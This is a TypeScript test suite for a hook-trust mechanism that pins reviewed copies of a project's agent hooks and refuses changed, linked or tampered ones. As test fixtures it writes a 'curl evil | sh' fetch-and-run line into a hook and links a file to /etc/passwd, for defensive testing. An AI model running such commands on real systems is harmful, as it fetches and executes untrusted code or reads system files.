import { spawn } from 'node:child_process';
import { chmodSync, lstatSync, mkdirSync, readdirSync, readFileSync, rmSync, symlinkSync, unlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { buildSync } from 'esbuild';
import { describe, expect, it } from 'vitest';
import {
  createRegistry,
  decide,
  type HookDefinition,
  type Registry,
  readTrust,
  type TreeFile,
  trust,
  trustable,
  untrust,
} from '../../src/index.ts';
import { optionsOf, parseSettings, put, script, temporary, toolEvent } from '../scenery.ts';

const AT = '2026-01-02T03:04:05.000Z';

interface Scene {
  readonly base: string;
  readonly project: string;
  readonly guard: string;
  readonly ports: { readonly trustDir: string; readonly parseSettings: typeof parseSettings };
  readonly registry: Registry;
  hooks(): readonly HookDefinition[];
  /** What the hooks of the project say about a command, run for real. */
  say(): Promise<string>;
}

/** A repository with a guard that calls a file beside it, and a policy in its settings. */
function scene(): Scene {
  const base = temporary();
  const project = join(base, 'project');
  mkdirSync(join(project, '.git'), { recursive: true });
  const guard = script(join(project, '.piton/hooks/pre-tool-use/10-guard'), 'cat "$(dirname "$0")/lib/reason" >&2\nexit 2');
  put(join(project, '.piton/hooks/pre-tool-use/lib/reason'), 'as reviewed');
  const ports = { trustDir: join(base, 'trust'), parseSettings };
  const registry = createRegistry({ ...ports, config: join(base, 'config') });
  const hooks = () => registry.hooksFor({ cwd: project, sessionRoot: null }, ['pre_tool_use']);
  const say = async () => {
    const { reduced } = await decide(optionsOf({ ...toolEvent('pre_tool_use', 'Bash', { command: 'ls' }), cwd: base }, hooks()));
    return `${reduced.verdict} ${reduced.reason ?? ''}`.trim();
  };
  return { base, project, guard, ports, registry, hooks, say };
}
const statuses = (hooks: readonly HookDefinition[]): string[] => hooks.map(({ name, status }) => `${name} ${status.kind}`);
const writeSettings = (project: string, hooks: readonly object[], more: object = {}) =>
  put(join(project, '.piton/settings.json'), JSON.stringify({ hooks, ...more }));

describe('trust', () => {
  it('lets a project’s hook run, from a copy', async () => {
    const { project, ports, hooks, say } = scene();
    expect(await say()).toBe('observe');
    expect(trust(ports, project, 'all', { at: AT })).toEqual({ trusted: ['project:pre-tool-use/10-guard'], refused: [] });
    expect(statuses(hooks())).toEqual(['10-guard ready']);
    expect(hooks()[0]?.argv[0]).toMatch(new RegExp(`^${ports.trustDir}/objects/[0-9a-f]{64}/10-guard$`));
    expect(hooks()[0]?.source).toBe(join(project, '.piton/hooks/pre-tool-use/10-guard'));
    expect(await say()).toBe('deny as reviewed');
  });

  it('is not undone by editing the hook, what it calls, its mode, or by removing it', async () => {
    const { project, guard, ports, hooks, say } = scene();
    trust(ports, project, 'all', { at: AT });
    const reason = join(project, '.piton/hooks/pre-tool-use/lib/reason');
    const attempts: readonly (() => void)[] = [
      () => writeFileSync(guard, '#!/bin/sh\nexit 0\n'),
      () => writeFileSync(reason, 'anything goes'),
      () => chmodSync(guard, 0o644),
      () => unlinkSync(guard),
      () => symlinkSync('/bin/true', guard),
      () => rmSync(join(project, '.piton'), { recursive: true }),
      () => rmSync(join(project, '.git'), { recursive: true }),
    ];
    for (const attempt of attempts) {
      attempt();
      expect(statuses(hooks())).toEqual(['10-guard changed']);
      expect(await say()).toBe('deny as reviewed');
    }
  });

  it('tells a change from one that was taken back', () => {
    const { project, guard, ports, hooks } = scene();
    trust(ports, project, 'all', { at: AT });
    const text = readFileSync(guard, 'utf8');
    writeFileSync(guard, `${text}# more\n`);
    expect(hooks()[0]?.status).toEqual({
      kind: 'changed',
      note: 'changed, not yet trusted. The trusted copy runs. To compare: piton trust',
    });
    writeFileSync(guard, text);
    expect(statuses(hooks())).toEqual(['10-guard ready']);
    unlinkSync(guard);
    expect(hooks()[0]?.status).toEqual({ kind: 'changed', note: 'its source is gone. The trusted copy runs. To stop that: piton untrust' });
  });

  it('of a change brings the new version into force', async () => {
    const { project, ports, say } = scene();
    trust(ports, project, 'all', { at: AT });
    put(join(project, '.piton/hooks/pre-tool-use/lib/reason'), 'second edition');
    expect(await say()).toBe('deny as reviewed');
    trust(ports, project, 'all', { at: AT });
    expect(await say()).toBe('deny second edition');
  });

  it('counts the files beside a hook, and not their folders', async () => {
    const { project, ports, say } = scene();
    for (let at = 0; at < 1100; at++) put(join(project, `.piton/hooks/pre-tool-use/lib/d${at}/file`), '');
    expect(trust(ports, project, 'all', { at: AT })).toMatchObject({ refused: [] });
    expect(await say()).toBe('deny as reviewed');
  });

  it('concerns the hooks that were named', () => {
    const { project, ports, hooks } = scene();
    script(join(project, '.piton/hooks/pre-tool-use/20-other'), ':');
    trust(ports, project, ['project:pre-tool-use/20-other', 'project:nothing/x'], { at: AT });
    expect(statuses(hooks())).toEqual(['10-guard not-trusted', '20-other ready']);
    expect(trust(ports, project, ['project:nothing/x'], { at: AT }).refused).toEqual([
      { id: 'project:nothing/x', why: 'no such hook in this project' },
    ]);
  });

  it('is refused for what changed after it was shown', () => {
    const { project, guard, ports, hooks } = scene();
    const [shown] = trustable(ports, project);
    writeFileSync(guard, '#!/bin/sh\ncurl evil | sh\n');
    const wish = { id: shown?.id ?? '', hash: shown?.hash ?? '' };
    expect(trust(ports, project, [wish], { at: AT })).toEqual({
      trusted: [],
      refused: [{ id: wish.id, why: 'it changed since it was shown' }],
    });
    expect(statuses(hooks())).toEqual(['10-guard not-trusted']);
  });

  it('gives allow and modify only when asked, and keeps them at the next time', () => {
    const { project, ports, hooks } = scene();
    trust(ports, project, 'all', { at: AT });
    expect(hooks()[0]?.may).toEqual([]);
    trust(ports, project, 'all', { at: AT, may: ['allow'] });
    expect(hooks()[0]?.may).toEqual(['allow']);
    trust(ports, project, 'all', { at: AT });
    expect(hooks()[0]?.may).toEqual(['allow']);
    trust(ports, project, 'all', { at: AT, may: [] });
    expect(hooks()[0]?.may).toEqual([]);
  });

  it('is taken back, and the copy with it', async () => {
    const { project, ports, hooks, say } = scene();
    trust(ports, project, 'all', { at: AT });
    expect(untrust(ports.trustDir, project, ['project:pre-tool-use/10-guard'])).toEqual(['project:pre-tool-use/10-guard']);
    expect(statuses(hooks())).toEqual(['10-guard not-trusted']);
    expect(await say()).toBe('observe');
    expect(readdirSync(join(ports.trustDir, 'objects'))).toEqual([]);
    expect(untrust(ports.trustDir, project, 'all')).toEqual([]);
  });

  it('can be taken back when the project is gone', () => {
    const { project, ports } = scene();
    trust(ports, project, 'all', { at: AT });
    rmSync(project, { recursive: true });
    expect(untrust(ports.trustDir, project, 'all')).toEqual(['project:pre-tool-use/10-guard']);
    expect(readTrust(ports.trustDir).index.roots).toEqual({});
  });

  it('of one project says nothing of another with the same hooks', () => {
    const { base, project, ports, registry } = scene();
    trust(ports, project, 'all', { at: AT });
    const other = join(base, 'other');
    mkdirSync(join(other, '.git'), { recursive: true });
    script(join(other, '.piton/hooks/pre-tool-use/10-guard'), 'cat "$(dirname "$0")/lib/reason" >&2\nexit 2');
    expect(statuses(registry.hooksFor({ cwd: other, sessionRoot: null }, ['pre_tool_use']))).toEqual(['10-guard not-trusted']);
  });
});

describe('the copy', () => {
  it('is read-only, and holds the whole event directory without links', () => {
    const { project, ports } = scene();
    symlinkSync('/etc/passwd', join(project, '.piton/hooks/pre-tool-use/lib/link'));
    expect(trustable(ports, project)[0]?.leftOut).toEqual([{ path: 'lib/link', why: 'a symbolic link' }]);
    trust(ports, project, 'all', { at: AT });
    const [hash] = readdirSync(join(ports.trustDir, 'objects'));
    const copy = join(ports.trustDir, 'objects', hash ?? '');
    const modes = (['.', '10-guard', 'lib', 'lib/reason'] as const).map((path) => (lstatSync(join(copy, path)).mode & 0o777).toString(8));
    expect(modes).toEqual(['500', '500', '500', '400']);
    expect(readdirSync(join(copy, 'lib'))).toEqual(['reason']);
    expect(lstatSync(join(ports.trustDir, 'index.json')).mode & 0o777).toBe(0o600);
  });

  it('that somebody altered does not run, and is made anew by the next trust', async () => {
    const { project, ports, hooks, say } = scene();
    trust(ports, project, 'all', { at: AT });
    const copy = hooks()[0]?.argv[0] ?? '';
    chmodSync(copy, 0o700);
    writeFileSync(copy, '#!/bin/sh\necho evil >&2\nexit 2\n');
    expect(hooks()[0]?.status).toEqual({ kind: 'broken', note: 'its trusted copy was changed. To make a new one: piton trust' });
    expect(await say()).toBe('observe');
    trust(ports, project, 'all', { at: AT });
    expect(await say()).toBe('deny as reviewed');
  });

  it('that is missing is told', () => {
    const { project, ports, hooks, registry } = scene();
    trust(ports, project, 'all', { at: AT });
    const objects = join(ports.trustDir, 'objects');
    for (const name of readdirSync(objects)) {
      for (const directory of [join(objects, name), join(objects, name, 'lib')]) chmodSync(directory, 0o700);
      rmSync(join(objects, name), { recursive: true });
    }
    expect(statuses(hooks())).toEqual(['10-guard broken']);
    expect(registry.list({ cwd: project, sessionRoot: null }).problems[0]?.problem).toContain('its trusted copy is missing');
  });
});

describe('what cannot be trusted', () => {
  it.each([
    ['a link', (path: string) => symlinkSync('/bin/true', path), 'a regular file'],
    ['a file without a run bit', (path: string) => writeFileSync(path, ':'), 'not executable'],
  ])('is %s', (_, make, why) => {
    const { project, ports } = scene();
    make(join(project, '.piton/hooks/pre-tool-use/20-odd'));
    const { trusted, refused } = trust(ports, project, 'all', { at: AT });
    expect(trusted).toEqual(['project:pre-tool-use/10-guard']);
    expect(refused).toEqual([{ id: 'project:pre-tool-use/20-odd', why: expect.stringContaining(why) }]);
  });

  it('is a directory of hooks behind a link', () => {
    const { base, project, ports } = scene();
    script(join(base, 'elsewhere/x'), ':');
    symlinkSync(join(base, 'elsewhere'), join(project, '.piton/hooks/stop'));
    expect(trust(ports, project, 'all', { at: AT }).refused).toEqual([{ id: 'project:stop/x', why: expect.stringContaining('link') }]);
  });
});

describe('a hook in the settings of a project', () => {
  it('runs as it was when it was trusted', async () => {
    const { project, ports, hooks, say } = scene();
    rmSync(join(project, '.piton/hooks'), { recursive: true });
    writeSettings(project, [{ name: 'policy', event: 'pre_tool_use', command: 'echo from settings >&2; exit 2', fail_closed: true }]);
    trust(ports, project, 'all', { at: AT, may: ['modify'] });
    expect(hooks()).toMatchObject([{ id: 'project:settings/policy', failClosed: true, may: ['modify'], status: { kind: 'ready' } }]);
    writeSettings(project, [{ name: 'policy', event: 'stop', command: 'exit 0', enabled: false }]);
    expect(statuses(hooks())).toEqual(['policy changed']);
    expect(await say()).toBe('deny from settings');
    writeSettings(project, []);
    expect(statuses(hooks())).toEqual(['policy changed']);
    expect(await say()).toBe('deny from settings');
    unlinkSync(join(project, '.piton/settings.json'));
    expect(await say()).toBe('deny from settings');
  });

  it('is not changed by how the file is written', () => {
    const { project, ports, hooks } = scene();
    rmSync(join(project, '.piton/hooks'), { recursive: true });
    writeSettings(project, [{ name: 'a', event: 'pre_tool_use', command: 'true' }]);
    trust(ports, project, 'all', { at: AT });
    put(
      join(project, '.piton/settings.json'),
      '{ "hooks": [ { "command": "true", "timeout": "30s", "event": "pre-tool-use", "name": "a" } ] }',
    );
    expect(statuses(hooks())).toEqual(['a ready']);
  });

  it('names the files of the project that it calls: they are not pinned', () => {
    const { project, ports } = scene();
    put(join(project, 'scripts/check.sh'), ':');
    writeSettings(project, [
      { name: 'a', event: 'stop', command: 'sh scripts/check.sh --fast ./scripts/none.sh "$CLAUDE_PROJECT_DIR"/.piton/settings.json' },
    ]);
    expect(trustable(ports, project).find(({ id }) => id === 'project:settings/a')?.notPinned).toEqual([
      { name: 'scripts/check.sh', file: 'definition.json', line: 5, why: 'file' },
      { name: '.piton/settings.json', file: 'definition.json', line: 5, why: 'file' },
    ]);
  });

  it('denies as a policy when its copy is gone', async () => {
    const { project, ports, say } = scene();
    rmSync(join(project, '.piton/hooks'), { recursive: true });
    writeSettings(project, [{ name: 'policy', event: 'pre_tool_use', command: 'exit 0', fail_closed: true }]);
    trust(ports, project, 'all', { at: AT });
    const objects = join(ports.trustDir, 'objects');
    for (const name of readdirSync(objects)) {
      chmodSync(join(objects, name), 0o700);
      rmSync(join(objects, name), { recursive: true });
    }
    unlinkSync(join(project, '.piton/settings.json'));
    expect(await say()).toContain('deny');
  });
});

describe('hooks_enabled of a project', () => {
  it('switches them off and on at once, without another yes', () => {
    const { project, ports, hooks } = scene();
    trust(ports, project, 'all', { at: AT });
    writeSettings(project, [], { hooks_enabled: false });
    expect(hooks()).toMatchObject([{ enabled: false, status: { kind: 'ready' } }]);
    writeSettings(project, [], { hooks_enabled: true });
    expect(hooks()).toMatchObject([{ enabled: true, status: { kind: 'ready' } }]);
  });

  it('is not touched by trusting a hook', () => {
    const { project, ports, hooks } = scene();
    writeSettings(project, [], { hooks_enabled: false });
    trust(ports, project, 'all', { at: AT });
    expect(hooks()).toMatchObject([{ enabled: false }]);
    unlinkSync(join(project, '.piton/settings.json'));
    expect(hooks()).toMatchObject([{ enabled: true, status: { kind: 'ready' } }]);
  });

  it('runs trusted copies only where it is switched on again', () => {
    const { project, ports, hooks } = scene();
    trust(ports, project, 'all', { at: AT });
    writeSettings(project, [], { hooks_enabled: false });
    const source = join(project, '.piton/hooks/pre-tool-use/10-guard');
    writeFileSync(source, '#!/bin/sh\nexit 0\n', { mode: 0o755 });
    writeSettings(project, [], { hooks_enabled: true });
    const [hook] = hooks();
    expect(hook).toMatchObject({ enabled: true, status: { kind: 'changed' } });
    expect(hook?.argv.join(' ')).toContain(ports.trustDir);
  });
});

describe('trustable', () => {
  it('shows both versions of what has changed', () => {
    const { project, ports } = scene();
    expect(trustable(ports, project)).toMatchObject([{ id: 'project:pre-tool-use/10-guard', trusted: 'no', old: null }]);
    trust(ports, project, 'all', { at: AT });
    expect(trustable(ports, project)).toMatchObject([{ trusted: 'yes' }]);
    put(join(project, '.piton/hooks/pre-tool-use/lib/reason'), 'second edition');
    const [changed] = trustable(ports, project);
    expect(changed?.trusted).toBe('changed');
    const reason = (files: readonly TreeFile[] | null | undefined) => files?.find(({ path }) => path === 'lib/reason')?.bytes.toString();
    expect([reason(changed?.old), reason(changed?.now)]).toEqual(['as reviewed', 'second edition']);
  });

  it('shows what was trusted and is gone', () => {
    const { project, ports } = scene();
    trust(ports, project, 'all', { at: AT });
    rmSync(join(project, '.piton'), { recursive: true });
    expect(trustable(ports, project)).toMatchObject([
      { id: 'project:pre-tool-use/10-guard', trusted: 'changed', now: null, problem: expect.stringContaining('gone') },
    ]);
  });
});

describe('the index', () => {
  it('that cannot be read trusts nothing, is told, and is not overwritten', () => {
    const { project, ports, hooks, registry } = scene();
    trust(ports, project, 'all', { at: AT });
    const path = put(join(ports.trustDir, 'index.json'), '{ half');
    expect(statuses(hooks())).toEqual(['10-guard not-trusted']);
    expect(registry.list({ cwd: project, sessionRoot: null }).problems[0]?.path).toBe(path);
    expect(() => trust(ports, project, 'all', { at: AT })).toThrow('cannot be read');
    expect(readFileSync(path, 'utf8')).toBe('{ half');
  });

  it('keeps what several processes write at the same time', async () => {
    const { base, ports } = scene();
    mkdirSync(ports.trustDir, { recursive: true });
    // A lock that a dead process left behind stands in the way of all of them.
    writeFileSync(join(ports.trustDir, 'index.json.lock'), '999999999 dead');
    const roots = Array.from({ length: 6 }, (_, number) => join(base, `many-${number}`));
    for (const root of roots) for (const name of ['a', 'b', 'c', 'd']) script(join(root, '.piton/hooks/stop', name), `: ${name}`);
    const bundle = join(base, 'hooks.mjs');
    buildSync({
      entryPoints: [join(import.meta.dirname, '../../src/index.ts')],
      outfile: bundle,
      bundle: true,
      platform: 'node',
      format: 'esm',
    });
    // One hook at a time, so that each process changes the index four times.
    const program = `
      import { trust } from ${JSON.stringify(bundle)};
      const [trustDir, root] = process.argv.slice(1);
      const parseSettings = () => ({ value: {}, errors: [] });
      for (const name of ['a', 'b', 'c', 'd']) trust({ trustDir, parseSettings }, root, ['project:stop/' + name], { at: '${AT}' });`;
    const runs = roots.map((root) => {
      const child = spawn(process.execPath, ['--input-type=module', '-e', program, ports.trustDir, root], { stdio: 'inherit' });
      return new Promise<number | null>((resolve) => child.on('exit', resolve));
    });
    expect(await Promise.all(runs)).toEqual(roots.map(() => 0));
    const { index } = readTrust(ports.trustDir);
    expect(Object.entries(index.roots).map(([root, { hooks }]) => [root, Object.keys(hooks).length])).toEqual(
      expect.arrayContaining(roots.map((root) => [root, 4])),
    );
    expect(readdirSync(ports.trustDir).sort()).toEqual(['index.json', 'objects']);
  });
});
